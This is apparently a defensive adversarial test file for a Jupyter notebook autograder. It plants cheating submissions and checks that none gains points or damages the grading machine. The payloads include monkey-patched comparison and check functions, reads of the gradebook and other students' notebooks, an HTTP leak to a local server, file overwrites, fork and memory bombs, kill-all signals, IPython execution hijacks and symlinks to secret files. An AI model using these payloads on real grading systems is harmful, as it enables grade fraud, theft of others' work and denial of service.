"""Adversarial submissions for 01_missing_values, graded by the class command (grading.autograde).

Each attack is a submission named for what it tries. Where it cheats, its answers are wrong, so
any point on its `cheats` cells is a point wrongly gained. Honest submissions are graded in the
same batch and must keep their exact scores. `python -m grading.adversarial` prints the report.
"""
from __future__ import annotations

import copy
import os
import http.server
import json
import tempfile
import threading
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from mlcourse.data import sha256_of

from . import autograde, submissions
from .course import CourseCopy, gradebook_scores, read_notebook, source_notebook

ASSIGNMENT = "01_missing_values"
AFTER_EX3 = ["ex3_impute_simple_test", "ex4_impute_with_model_test", "ex5_interpolate_series_test",
             "ex6_variance_ratio_test", "q1_answer_test", "q2_answer_test", "q3_answer_test", "q4_answer_test"]
CELL_TIMEOUT = 15                  # the suite's per-cell limit ...
SUBMISSION_TIMEOUT = 60            # ... and per-notebook limit
SLEEP_S = CELL_TIMEOUT - 1         # just under the cell limit
NOTEBOOK = f"{ASSIGNMENT}.ipynb"

WRONG = {  # plausible wrong answers the attacks try to get credit for
    "ex1_missing_summary": 'def missing_summary(df):\n    return pd.DataFrame({"n_missing": [0], "pct_missing": [0.0]})',
    "ex2_complete_case": "def complete_case(df, subset):\n    return df",
    "ex3_impute_simple": "def impute_simple(train, test, columns, strategy):\n    return train, test",
    "ex4_impute_with_model": "def impute_with_model(train, test, target, features):\n    return train, test",
    "ex5_interpolate_series": "def interpolate_series(s):\n    return s",
    "ex6_variance_ratio": "def variance_ratio(original, imputed):\n    return 1.0",
}

FIND_FILES = '''
import glob, os
def _find(pattern):
    hits, here = [], os.path.abspath(os.getcwd())
    for _ in range(8):
        hits += glob.glob(os.path.join(here, pattern))
        here = os.path.dirname(here)
    return hits + glob.glob("/**/" + pattern, recursive=False)
'''

# attack code too long for one line
HISTORY_READER_Q2 = '''
import glob, re
class _Sneaky(int):
    def __int__(self):
        text = " ".join(get_ipython().user_ns.get("In", [])) + " ".join(open(p).read() for p in glob.glob("*.ipynb"))
        found = re.search(r"int\\(q2_answer\\) != (\\d)", text)
        return int(found.group(1)) if found else 1
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
q2_answer = _Sneaky(1)'''
HISTORY_READER_Q3 = '''
import glob, re
q3_answer = 1
for _p in glob.glob("*.ipynb") + glob.glob("../*/*.ipynb") + glob.glob("../../*/*/*.ipynb"):
    _m = re.search(r"int\\(q3_answer\\) != (\\d)", open(_p).read())
    if _m:
        q3_answer = int(_m.group(1))'''
TRACE_HOOKS = '''
import sys
def _tracer(frame, event, arg):
    if event == "exception" and "passed" in frame.f_globals:
        frame.f_globals["passed"]("")
    return _tracer
sys.settrace(_tracer)
sys.setprofile(lambda *a: None)
sys.addaudithook(lambda event, args: None)
'''
THREAD_REPATCHER = '''
import threading, time
import mlcourse.check as _m
def _loop():
    while True:
        _m.expect_frame = _m.expect_type = lambda *a, **k: None
        get_ipython().user_ns["expect_frame"] = lambda *a, **k: None
        time.sleep(0.001)
threading.Thread(target=_loop, daemon=True).start()
'''
SYS_MODULES_SWAP = '''
import sys, types, importlib
_fake = types.ModuleType("mlcourse.check")
for _n in ("call", "expect_frame", "expect_type", "passed", "expect_series", "expect_float", "expect_choice"):
    setattr(_fake, _n, (lambda f, *a, **k: f(*a, **k)) if _n == "call" else (lambda *a, **k: None))
_fake.__all__ = ["call", "expect_frame", "expect_type", "passed"]
sys.modules["mlcourse.check"] = _fake
importlib.reload = lambda m: _fake
'''
AGENT_LIES = '''
import mlcourse.remote as _r
_orig = _r.Agent.op_names
def _names(self, request):
    out = _orig(self, {"protected": []})
    for _n in ("expect_frame", "expect_type", "call", "passed", "isinstance", "AssertionError", "_ref_impute_simple"):
        out["names"][_n] = self._handle(lambda *a, **k: None)
    return out
_r.Agent.op_names = _names
'''
FRAMES_AND_GC = '''
import gc, sys
def impute_with_model(train, test, target, features):
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in list(frame.f_globals.items()):
            if name.startswith("_ref") and callable(value):
                return value(train, test, target, features)
        frame = frame.f_back
    for obj in gc.get_objects():
        if getattr(obj, "__name__", "").startswith("_ref_impute"):
            return obj(train, test, target, features)
    return train, test'''
HUGE_RICH_OUTPUTS = '''
from IPython.display import display
for _ in range(3):
    display({"image/png": "iVBORw0KGgo" + "A" * 40_000_000}, raw=True)
display({"text/markdown": "#" * 30_000_000}, raw=True)
display({"application/json": {"x": "y" * 20_000_000}}, raw=True)
'''


@dataclass
class Attack:
    name: str
    tries: str
    cheats: list[str]                           # grade cells where any point is wrongly gained
    answers: dict[str, str] = field(default_factory=dict)   # solution cells replaced
    edit: object = None                         # notebook -> notebook (cell surgery)
    raw: str | None = None                      # exact file text instead of a notebook
    filename: str = NOTEBOOK
    extra_files: dict[str, str] = field(default_factory=dict)
    whole_zero: bool = False                    # must end as 0 on every cell, with a reason
    destructive: bool = False                   # harms the grading machine without a sandbox: never run so
    link: str = ""                              # a link/FIFO planted in the submission folder (see _plant)


def _drop_cell(grade_id):
    def edit(nb):
        nb.cells = [c for c in nb.cells if submissions.grade_id(c) != grade_id]
        return nb
    return edit


def _duplicate_test(grade_id, source):
    def edit(nb):
        index = next(i for i, c in enumerate(nb.cells) if submissions.grade_id(c) == grade_id)
        fake = copy.deepcopy(nb.cells[index])
        fake.source = fake.source if source is None else source
        fake["id"] = "duplicated-test"
        nb.cells.insert(index if source is not None else index + 1, fake)  # a cheat goes first, a paste after
        return nb
    return edit


def _add_sleepy_cells(count):
    def edit(nb):
        for _ in range(count):
            nb.cells.append(nbformat.v4.new_code_cell(f"import time\ntime.sleep({SLEEP_S})"))
        return nb
    return edit


def _plant(attack: Attack, folder: Path, course: CourseCopy, canary: Path) -> None:
    """Links and special files nbgrader would follow or block on outside the sandbox."""
    target = folder / attack.filename
    pointee = {"other_student": course.root / "submitted" / "honest-perfect-1" / ASSIGNMENT / NOTEBOOK,
               "gradebook": course.root / "gradebook.db", "canary": canary}.get(attack.link)
    if pointee is not None:
        target.unlink()
        target.symlink_to(pointee)
    elif attack.link == "fifo":
        target.unlink()
        os.mkfifo(target)
    elif attack.link == "extra_links":
        for name, pointee in (("source.ipynb", course.root / "source" / ASSIGNMENT / NOTEBOOK),
                              ("gradebook.db", course.root / "gradebook.db"), ("environ", Path("/proc/self/environ")),
                              ("course", course.root)):
            (folder / name).symlink_to(pointee)


def attacks(port: int) -> list[Attack]:
    w = WRONG
    return [
        Attack("eq_always_true_frame", "__eq__가 항상 True인 DataFrame 하위 클래스", ["ex1_missing_summary_test"],
               {"ex1_missing_summary": "class _A(pd.DataFrame):\n    def __eq__(self, o):\n        return True\n"
                                       "def missing_summary(df):\n    return _A({'n_missing': [0]})"}),
        Attack("eq_always_true_float", "__eq__가 항상 True인 float 하위 클래스", ["ex6_variance_ratio_test"],
               {"ex6_variance_ratio": "class _F(float):\n    def __eq__(self, o):\n        return True\n"
                                      "    __hash__ = float.__hash__\ndef variance_ratio(o, i):\n    return _F(0.0)"}),
        Attack("patch_np_allclose", "np.allclose/isclose/testing 패치", ["ex6_variance_ratio_test"],
               {"ex6_variance_ratio": "np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
                                      "np.testing.assert_allclose = lambda *a, **k: None\n" + w["ex6_variance_ratio"]}),
        Attack("patch_numpy_internals", "비교에 쓰이는 np.abs/np.isnan 패치", ["ex5_interpolate_series_test"],
               {"ex5_interpolate_series": "np.abs = lambda x, *a, **k: np.zeros(np.shape(x))\n"
                                          "np.array_equal = lambda *a, **k: True\n" + w["ex5_interpolate_series"]}),
        Attack("patch_pd_testing", "pd.testing, DataFrame.equals 패치", ["ex1_missing_summary_test"],
               {"ex1_missing_summary": "pd.testing.assert_frame_equal = lambda *a, **k: None\n"
                                       "pd.DataFrame.equals = lambda self, other: True\n" + w["ex1_missing_summary"]}),
        Attack("rebind_check_helpers", "확인 함수 이름을 다시 정의", ["ex2_complete_case_test"],
               {"ex2_complete_case": "expect_frame = lambda *a, **k: None\nexpect_type = lambda *a, **k: None\n"
                                     "call = lambda f, *a, **k: f(*a, **k)\n" + w["ex2_complete_case"]}),
        Attack("patch_mlcourse_check", "mlcourse.check 모듈 함수 패치", ["ex3_impute_simple_test"],
               {"ex3_impute_simple": "import mlcourse.check as _m\n_m.expect_frame = lambda *a, **k: None\n"
                                     "_m.expect_type = lambda *a, **k: None\n_m._fail = lambda *a: None\n"
                                     + w["ex3_impute_simple"]}),
        Attack("patch_builtins", "builtins.float/isinstance/type 패치", ["ex6_variance_ratio_test"],
               {"ex6_variance_ratio": "import builtins\nbuiltins.isinstance = lambda *a: True\n"
                                      "builtins.float = lambda *a: 0.6\n" + w["ex6_variance_ratio"]}),
        Attack("showtraceback_override", "오류 출력을 숨겨 실패를 통과로 보이게 함", ["ex4_impute_with_model_test"],
               {"ex4_impute_with_model": "get_ipython().showtraceback = lambda *a, **k: None\n"
                                         "import sys\nsys.excepthook = lambda *a: None\n" + w["ex4_impute_with_model"]}),
        Attack("read_gradebook", "gradebook.db에서 숨은 정답 읽기", ["q1_answer_test"],
               {"q1_answer": FIND_FILES + '''
import re, sqlite3
q1_answer = 1
for path in _find("gradebook.db"):
    try:
        text = " ".join(str(r) for r in sqlite3.connect(path).execute("select source from base_cells"))
        q1_answer = int(re.search(r"int\\(q1_answer\\) != (\\d)", text).group(1))
    except Exception:
        pass'''}),
        Attack("read_source", "source/ 노트북에서 정답 읽기", ["q2_answer_test"],
               {"q2_answer": FIND_FILES + '''
import re
q2_answer = 1
for path in _find("source/*/*.ipynb"):
    try:
        q2_answer = int(re.search(r"q2_answer = (\\d)", open(path).read()).group(1))
    except Exception:
        pass'''}),
        Attack("read_other_student", "다른 학생의 제출물에서 답 베끼기", ["q3_answer_test"],
               {"q3_answer": FIND_FILES + '''
import re
q3_answer = 1
for path in _find("submitted/*/*/*.ipynb") + _find("autograded/*/*/*.ipynb"):
    try:
        q3_answer = int(re.search(r"q3_answer = (\\d)", open(path).read()).group(1))
    except Exception:
        pass'''}),
        Attack("network_exfiltration", "127.0.0.1의 서버에서 답 받기/정보 보내기", ["q4_answer_test"],
               {"q4_answer": f'''
import urllib.request
q4_answer = 1
try:
    q4_answer = int(urllib.request.urlopen("http://127.0.0.1:{port}/answer?leak=1", timeout=2).read())
except Exception:
    pass'''}),
        Attack("write_gradebook", "성적부에 모든 점수를 만점으로 기록", ["ex5_interpolate_series_test"],
               {"ex5_interpolate_series": FIND_FILES + '''
import sqlite3
for path in _find("gradebook.db"):
    try:
        db = sqlite3.connect(path)
        db.execute("update grade set auto_score = 99")
        db.commit()
    except Exception:
        pass
''' + w["ex5_interpolate_series"]}),
        Attack("write_course_files", "data/와 source/, 다른 학생 노트북 덮어쓰기", ["ex6_variance_ratio_test"],
               {"ex6_variance_ratio": FIND_FILES + '''
for pattern in ("data/*.csv", "source/*/*.ipynb", "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb"):
    for path in _find(pattern):
        try:
            open(path, "w").write("owned")
        except Exception:
            pass
''' + w["ex6_variance_ratio"]}, destructive=True),
        Attack("shadow_helper_package", "제출 폴더에 가짜 mlcourse 패키지 동봉", ["ex1_missing_summary_test"],
               {"ex1_missing_summary": w["ex1_missing_summary"]},
               extra_files={
                   "mlcourse/__init__.py": "def setup_notebook(*a, **k):\n    return 42\n"
                                           "def load_csv(*a, **k):\n    import pandas\n    return pandas.DataFrame()\n",
                   "mlcourse/check.py": "__all__ = ['call', 'expect_choice', 'expect_float', 'expect_frame', "
                                        "'expect_series', 'expect_type', 'passed']\n"
                                        "def call(f, *a, **k):\n    return f(*a, **k)\n"
                                        "def _ok(*a, **k):\n    pass\n"
                                        "expect_choice = expect_float = expect_frame = expect_series = expect_type = passed = _ok\n",
                   "mlcourse/remote.py": "def serve(request):\n    return ''\n",
               }),
        Attack("delete_test_cell", "확인 셀 삭제", ["ex1_missing_summary_test"],
               {"ex1_missing_summary": w["ex1_missing_summary"]}, edit=_drop_cell("ex1_missing_summary_test")),
        Attack("edit_test_cell", "확인 셀 내용을 pass로 바꿈", ["ex2_complete_case_test"],
               {"ex2_complete_case": w["ex2_complete_case"]},
               edit=lambda nb: submissions.replace_cell(nb, "ex2_complete_case_test", "pass")),
        Attack("duplicate_grade_id", "같은 grade_id의 가짜 확인 셀을 앞에 추가", ["ex3_impute_simple_test"],
               {"ex3_impute_simple": w["ex3_impute_simple"]},
               edit=_duplicate_test("ex3_impute_simple_test", 'passed("가짜")')),
        Attack("infinite_loop", "함수가 끝나지 않음", ["ex4_impute_with_model_test"],
               {"ex4_impute_with_model": "def impute_with_model(train, test, target, features):\n    while True:\n        pass"}),
        Attack("memory_bomb", "메모리를 끝없이 할당", ["ex5_interpolate_series_test"],
               {"ex5_interpolate_series": "def interpolate_series(s):\n    hog = []\n    while True:\n"
                                          "        hog.append(bytearray(50_000_000))"}, destructive=True),
        Attack("fork_bomb", "프로세스를 끝없이 복제", ["ex6_variance_ratio_test"],
               {"ex6_variance_ratio": "import os\ndef variance_ratio(original, imputed):\n    while True:\n"
                                      "        os.fork()"}, destructive=True),
        Attack("huge_output", "수십 MB를 출력", ["ex1_missing_summary_test"],
               {"ex1_missing_summary": "def missing_summary(df):\n    for _ in range(30):\n"
                                       "        print('y' * 1_000_000)\n    return pd.DataFrame()"}),
        Attack("sys_exit", "sys.exit 호출", ["ex2_complete_case_test"],
               {"ex2_complete_case": "import sys\ndef complete_case(df, subset):\n    sys.exit(0)"}),
        # the kernel dies in the ex3 test: that test and every later one score 0, with a reason
        Attack("os_exit", "os._exit로 커널 종료", AFTER_EX3,
               {"ex3_impute_simple": "import os\ndef impute_simple(train, test, columns, strategy):\n    os._exit(0)"}),
        Attack("kill_processes", "보이는 모든 프로세스에 SIGKILL", ["ex4_impute_with_model_test"],
               {"ex4_impute_with_model": "import os, signal\ndef impute_with_model(train, test, target, features):\n"
                                         "    os.kill(-1, signal.SIGKILL)"}, destructive=True),
        # ---- attacks on how later cells run (the judge runs them elsewhere)
        Attack("input_transformer", "IPython 입력 변환기로 이후 모든 셀을 pass로", ["ex1_missing_summary_test", "q1_answer_test"],
               {"ex1_missing_summary": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
                                       + w["ex1_missing_summary"], "q1_answer": "q1_answer = 1"}),
        Attack("ast_transformer", "AST 변환기로 assert/raise를 지움", ["ex2_complete_case_test"],
               {"ex2_complete_case": "import ast\nclass _Strip(ast.NodeTransformer):\n"
                                     "    def visit_Raise(self, node):\n        return ast.Pass()\n"
                                     "    def visit_Call(self, node):\n        return ast.Constant(None)\n"
                                     "get_ipython().ast_transformers.append(_Strip())\n" + w["ex2_complete_case"]}),
        Attack("transform_cell", "transform_cell을 바꿔 모든 셀을 pass로", ["ex3_impute_simple_test"],
               {"ex3_impute_simple": "_ip = get_ipython()\n_ip.transform_cell = lambda raw: 'pass\\n'\n"
                                     "type(_ip).transform_cell = lambda self, raw: 'pass\\n'\n" + w["ex3_impute_simple"]}),
        Attack("kernel_do_execute", "커널의 do_execute를 바꿔 항상 성공", ["ex4_impute_with_model_test"],
               {"ex4_impute_with_model": "_k = get_ipython().kernel\n_orig = _k.do_execute\n"
                                         "async def _fake(code, silent, *a, **k):\n"
                                         "    return await _orig('pass', silent, *a, **k)\n"
                                         "_k.do_execute = _fake\n" + w["ex4_impute_with_model"]}),
        Attack("run_cell_class_patch", "run_cell/run_cell_async와 showtraceback을 클래스에서 패치", ["ex5_interpolate_series_test"],
               {"ex5_interpolate_series": "_cls = type(get_ipython())\n_orig = _cls.run_cell_async\n"
                                          "async def _quiet(self, raw_cell, *a, **k):\n"
                                          "    return await _orig(self, 'pass', *a, **k)\n"
                                          "_cls.run_cell_async = _quiet\n_cls.showtraceback = lambda *a, **k: None\n"
                                          + w["ex5_interpolate_series"]}),
        Attack("history_reader", "실행 기록(In[-1])과 작업 폴더의 노트북에서 숨은 정답 읽기", ["q2_answer_test", "q3_answer_test"],
               {"q2_answer": HISTORY_READER_Q2, "q3_answer": HISTORY_READER_Q3}),
        Attack("settrace_hooks", "sys.settrace/setprofile/audit 훅으로 채점 코드 조작", ["ex6_variance_ratio_test"],
               {"ex6_variance_ratio": TRACE_HOOKS + w["ex6_variance_ratio"]}),
        Attack("thread_repatcher", "스레드가 확인 함수를 계속 다시 패치", ["ex1_missing_summary_test"],
               {"ex1_missing_summary": THREAD_REPATCHER + w["ex1_missing_summary"]}),
        Attack("sys_modules_swap", "sys.modules의 mlcourse.check를 가짜로 교체, importlib.reload 패치", ["ex2_complete_case_test"],
               {"ex2_complete_case": SYS_MODULES_SWAP + w["ex2_complete_case"]}),
        Attack("agent_lies", "학생 커널의 응답기(mlcourse.remote)를 바꿔 확인 함수 이름을 주입", ["ex3_impute_simple_test"],
               {"ex3_impute_simple": AGENT_LIES + w["ex3_impute_simple"]}),
        Attack("frames_and_gc", "호출 시점에 프레임/gc로 숨은 참조 답안 찾기", ["ex4_impute_with_model_test"],
               {"ex4_impute_with_model": FRAMES_AND_GC}),
        Attack("huge_rich_outputs", "40 MB 이미지 3개, 30 MB markdown, 20 MB JSON 출력", ["ex5_interpolate_series_test"],
               {"ex5_interpolate_series": HUGE_RICH_OUTPUTS + w["ex5_interpolate_series"]}),
        Attack("slow_added_cells", "셀 시간 제한 직전까지 자는 셀 8개 추가", ["ex6_variance_ratio_test"],
               {"ex6_variance_ratio": w["ex6_variance_ratio"]}, edit=_add_sleepy_cells(8)),
        # ---- attacks on the grader's file system (nbgrader runs outside the sandbox)
        Attack("symlink_other_student", "노트북을 다른 학생 제출물로의 심볼릭 링크로 교체", [], link="other_student", whole_zero=True),
        Attack("symlink_gradebook", "노트북을 gradebook.db로의 심볼릭 링크로 교체", [], link="gradebook", whole_zero=True),
        Attack("symlink_root_file", "권한 변경 단계를 노린 root 소유 파일로의 링크", [], link="canary", whole_zero=True),
        Attack("fifo_notebook", "노트북 자리에 FIFO", [], link="fifo", whole_zero=True),
        Attack("symlinks_for_feedback", "피드백 생성을 노린 링크 파일 동봉 (source, gradebook, 환경)", ["q4_answer_test"],
               {"q4_answer": "q4_answer = 1"}, link="extra_links"),
        Attack("invalid_json", "JSON이 아닌 파일 제출", [], raw="{ this is not json", whole_zero=True),
        Attack("wrong_notebook_name", "노트북 이름을 바꿔 제출", [], filename="my_answers.ipynb", whole_zero=True),
        Attack("missing_notebook", "빈 폴더 제출", [], raw="", filename="", whole_zero=True),
    ]


HONEST = ["honest-perfect-1", "honest-perfect-2", "honest-blank", "honest-partial", "honest-colab",
          "honest-duplicated-cell"]


class _AnswerServer(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802
        type(self).hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"3")

    def log_message(self, *args):
        pass


def tree_checksums(root: Path) -> dict[str, str]:
    """Every file of the course tree but what grading writes (autograded/, the gradebook, feedback/):
    links by their target, never followed."""
    sums = {}
    for path in sorted(root.rglob("*")):
        relative = path.relative_to(root)
        if relative.parts[0] in ("autograded", "feedback") or relative.name.startswith("gradebook.db"):
            continue
        if path.is_symlink():
            sums[str(relative)] = "link:" + os.readlink(path)
        elif path.is_file():
            sums[str(relative)] = sha256_of(path)
    return sums


def _gradebook_rows(db_url: str, student: str) -> list[tuple]:
    from nbgrader.api import Gradebook

    with Gradebook(db_url) as gradebook:
        notebook = gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, student)
        return sorted((g.name, g.auto_score, g.manual_score) for g in notebook.grades)


def _earlier_student(db_url: str) -> None:
    """A student graded before this batch, whose rows must come out unchanged."""
    from nbgrader.api import Gradebook

    with Gradebook(db_url) as gradebook:
        gradebook.update_or_create_student("earlier-student")
        submission = gradebook.add_submission(ASSIGNMENT, "earlier-student")
        for notebook in submission.notebooks:
            for i, grade in enumerate(notebook.grades):
                grade.auto_score, grade.needs_manual_grade = float(i % 2), False
        gradebook.db.commit()


def feedback_problems(course: CourseCopy) -> list[str]:
    """Feedback holds the generated HTML of each notebook and nothing else, without hidden tests."""
    problems = []
    for path in sorted((course.root / "feedback").rglob("*")):
        if path.is_symlink() or (path.is_file() and path.suffix != ".html"):
            problems.append(f"not feedback HTML: {path.relative_to(course.root)}")
        elif path.is_file() and any(secret in path.read_text(encoding="utf-8", errors="replace")
                                    for secret in ("BEGIN HIDDEN TESTS", "_ref_missing_summary", "int(q1_answer) != 2")):
            problems.append(f"hidden test text in {path.relative_to(course.root)}")
    return problems


def plant_class(course: CourseCopy, plan: list[Attack], canary: Path, honest: list[str] = HONEST) -> list[Attack]:
    """The honest submissions named and every attack of `plan`, in course's submitted/ (the
    assignment already generated or not): the class the suite grades."""
    release_nb = read_notebook(course.generate(ASSIGNMENT))
    reference = submissions.reference_answers(source_notebook(ASSIGNMENT))
    perfect = submissions.fill(release_nb, reference)
    kinds = {
        "honest-perfect-1": perfect, "honest-perfect-2": perfect, "honest-blank": release_nb,
        "honest-partial": submissions.fill(release_nb, {**reference, **{k: WRONG[k] for k in ("ex3_impute_simple", "ex5_interpolate_series")}}),
        # copy-pasting a cell in Jupyter duplicates its grade_id: nothing may be lost for it
        "honest-duplicated-cell": _duplicate_test("ex1_missing_summary_test", None)(copy.deepcopy(perfect)),
    }
    for student in honest:
        if student == "honest-colab":
            course.submit(student, ASSIGNMENT, None, raw=submissions.colab_saved(perfect))
        else:
            course.submit(student, ASSIGNMENT, kinds[student])
    for attack in plan:
        folder = course.root / "submitted" / f"attack-{attack.name}" / ASSIGNMENT
        folder.mkdir(parents=True)
        if attack.raw is not None:
            if attack.filename:
                (folder / attack.filename).write_text(attack.raw, encoding="utf-8")
        else:
            nb = submissions.fill(release_nb, {**reference, **attack.answers})
            nb = attack.edit(nb) if attack.edit else nb
            (folder / attack.filename).write_text(json.dumps(nb, ensure_ascii=False), encoding="utf-8")
        for relative, text in attack.extra_files.items():
            (folder / relative).parent.mkdir(parents=True, exist_ok=True)
            (folder / relative).write_text(text, encoding="utf-8")
        if attack.link:
            _plant(attack, folder, course, canary)
    return plan


def run_suite(workdir: Path, workers: int = 2, timeout: int = CELL_TIMEOUT, use_sandbox: bool = True) -> dict:
    """Grade attacks and honest submissions in one batch; return the figures and the details."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _AnswerServer)
    _AnswerServer.hits = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    canary = workdir / "outside" / "root-only.txt"  # a root-owned file outside the course
    canary.parent.mkdir(parents=True)
    canary.write_text("secret")
    canary.chmod(0o600)
    try:
        course = CourseCopy(workdir / "course", only=[ASSIGNMENT])
        plan = plant_class(course, [a for a in attacks(server.server_address[1]) if use_sandbox or not a.destructive],
                           canary)
        _earlier_student(course.db_url)
        earlier = _gradebook_rows(course.db_url, "earlier-student")
        before = tree_checksums(course.root)

        broken, outcomes = 0, []
        try:
            outcomes = autograde.run(course.root, [ASSIGNMENT], workers=workers, timeout=timeout,
                                     use_sandbox=use_sandbox, progress=False, submission_timeout=SUBMISSION_TIMEOUT)
        except Exception as exc:  # a batch that dies is what this suite exists to catch
            broken, outcomes = 1, [exc]
        after = tree_checksums(course.root)
        changed_files = sorted(k for k in set(before) | set(after) if before.get(k) != after.get(k))
        if canary.read_text() != "secret" or canary.stat().st_mode & 0o777 != 0o600:
            changed_files.append(str(canary))
        gradebook_intact = _gradebook_rows(course.db_url, "earlier-student") == earlier
        try:
            course.generate_feedback(ASSIGNMENT)
            feedback = feedback_problems(course)
        except Exception as exc:  # noqa: BLE001 (the report names it)
            feedback = [f"generate_feedback failed: {exc}"[:300]]
        expected_students = set(HONEST) | {f"attack-{a.name}" for a in plan}
        if not broken and {o.student for o in outcomes} != expected_students:
            broken = 1
        scores = gradebook_scores(course.db_url, ASSIGNMENT)
        full = {n: c.max_score for n, c in scores.get("honest-perfect-1", {}).items()}
        expect_honest = {
            "honest-perfect-1": full, "honest-perfect-2": full, "honest-colab": full, "honest-duplicated-cell": full,
            "honest-blank": {n: 0.0 for n in full},
            "honest-partial": {n: (0.0 if n in ("ex3_impute_simple_test", "ex5_interpolate_series_test") else m)
                               for n, m in full.items()},
        }
        manual = "written_compare_methods"
        honest_changed = [s for s, want in expect_honest.items()
                          if {n: c.score for n, c in scores.get(s, {}).items() if n != manual}
                          != {n: v for n, v in want.items() if n != manual}]
        gained, details = 0.0, []
        reasons = {o.student: o.reason for o in outcomes if isinstance(o, autograde.Outcome)}
        for attack in plan:
            cells = scores.get(f"attack-{attack.name}", {})
            points = sum(cells[c].score or 0 for c in attack.cheats if c in cells)
            if attack.whole_zero:
                points += sum(c.score or 0 for c in cells.values())
            gained += points
            details.append((attack.name, attack.tries, points, reasons.get(f"attack-{attack.name}", "")))
        return {
            "attempts": len(plan),
            "points_wrongly_gained": gained,
            "batches_broken": broken,
            "honest_grades_changed": len(honest_changed),
            "files_changed": changed_files,
            "gradebook_intact": gradebook_intact,
            "feedback_problems": feedback,
            "network_requests_received": len(_AnswerServer.hits),
            "details": details,
            "honest_changed": honest_changed,
            "outcomes": outcomes,
            "course_root": course.root,
            "course": course,
        }
    finally:
        server.shutdown()
        server.server_close()


def report(result: dict) -> str:
    lines = [f"{'attack':<26} {'points':>6}  reason / what it tried"]
    for name, tries, points, reason in result["details"]:
        lines.append(f"{name:<26} {points:>6g}  {reason or '-'}  ({tries})")
    lines += ["", f"attempts tried: {result['attempts']}",
              f"points wrongly gained: {result['points_wrongly_gained']:g} (goal 0)",
              f"batches broken: {result['batches_broken']} (goal 0)",
              f"honest grades changed: {result['honest_grades_changed']} (goal 0)",
              f"requests that reached the 127.0.0.1 server: {result['network_requests_received']} (goal 0)",
              f"files changed outside the kernels' scratch folders: {len(result['files_changed'])} (goal 0)",
              f"gradebook rows of an earlier student intact: {result['gradebook_intact']} (goal True)",
              f"feedback problems: {len(result['feedback_problems'])} (goal 0)"]
    return "\n".join(lines)


if __name__ == "__main__":
    import sys

    with tempfile.TemporaryDirectory(prefix="adversarial-") as tmp:
        result = run_suite(Path(tmp), use_sandbox="--no-sandbox" not in sys.argv)
        print(report(result))
        from . import tamper
        print("\n" + tamper.report(result["course_root"], [o for o in result["outcomes"] if isinstance(o, autograde.Outcome)]))
